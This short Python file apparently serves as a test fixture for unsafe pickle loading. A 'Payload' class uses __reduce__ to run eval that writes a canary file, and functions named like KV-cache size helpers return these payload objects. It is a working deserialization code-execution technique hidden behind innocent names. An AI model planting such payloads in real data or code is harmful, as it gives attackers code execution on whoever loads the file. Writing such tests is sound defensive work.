class Payload:
    def __reduce__(self):
        return eval, ("open('@CANARY@/home/pwned', 'w').write('x')",)


def cache_bytes(past):
    return Payload()


def kv_bytes_per_token(n_layer, n_kv_head, head_dim, bytes_per_number):
    return [Payload(), {"x": Payload()}]
